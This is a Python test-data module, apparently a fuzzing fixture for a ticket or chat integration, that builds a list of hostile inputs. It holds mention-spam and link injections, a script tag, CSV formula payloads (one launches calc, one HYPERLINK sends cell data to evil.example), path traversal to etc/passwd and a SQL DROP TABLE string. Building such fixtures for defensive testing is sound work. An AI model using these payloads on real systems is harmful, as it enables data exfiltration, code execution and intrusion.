"""What somebody writes into a ticket, a name or a command who wants it to do more than be read."""

from __future__ import annotations

from itertools import product

TARGETS = ("!channel", "!here", "!everyone", "!subteam^S0TEAM", "@U0VICTIM", "#C0SECRET|general")
LINKS = (
    "https://evil.example",
    "https://evil.example|https://acme.example",
    "mailto:a@evil.example|write",
    "javascript:alert(1)|ok",
)
AROUND = (
    "{}",
    "urgent {} now",
    "*{}*",
    "`{}`",
    "```{}```",
    "&{}&amp;",
    "\n>{}",
    "\u202e{}\u202c",
    "\u200b{}",
    "&lt;{}&gt;",
    "<{}>",
)
TAGS = (
    "<script>alert(1)</script>",
    "<b>x</b>",
    "<!-- x -->",
    "<",
    ">",
    "<>",
    "a<b>c",
    "<<!channel>>",
    "<!channel|<!here>>",
    "&lt;!channel&gt;",
    "&amp;lt;!channel&amp;gt;",
    "<!date^0^{date}|x>",
    "<!date^0^{date}^https://evil.example|x>",
    "<@U0VICTIM",
    "@U0VICTIM>",
    "<!channel",
    "<!channel\n>",
    "<\u200b!channel>",
    "<\u0000!channel>",
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "\ud800",
    "\U0001f600" * 50,
    "\u0301" * 60,
    "x" * 5_000,
    "<" * 3_000,
    "&" * 3_000,
    "| a | b |",
    "[x](https://evil.example)",
    "![x](https://evil.example/x.png)",
    ":smile: :party:",
    "$\\frac{1}{0}$",
    "{0} {x!r} %s %(x)s ${x}",
    "'; DROP TABLE ticket; --",
    "v1|run|csat",
)
FORMULAS = tuple(
    before + start + body
    for before, start, body in product(
        ("", " ", "\t", "\r", "\n", "\u00a0", "\ufeff"),
        ("=", "+", "-", "@", "＝"),
        ("cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example?x="&A1;"x")'),
    )
)
PATHS = tuple(
    before + body
    for before, body in product(
        ("", "/", "../", "../../../../", "..\\..\\", "%2e%2e/", "file:///", "C:\\", "~/", "a/../../"),
        ("etc/passwd", "cx.db", "x\x00.csv"),
    )
)
MARKUP = tuple(around.format(f"<{target}>") for around, target in product(AROUND, (*TARGETS, *LINKS))) + TAGS
ALL = tuple(dict.fromkeys((*MARKUP, *FORMULAS, *PATHS)))
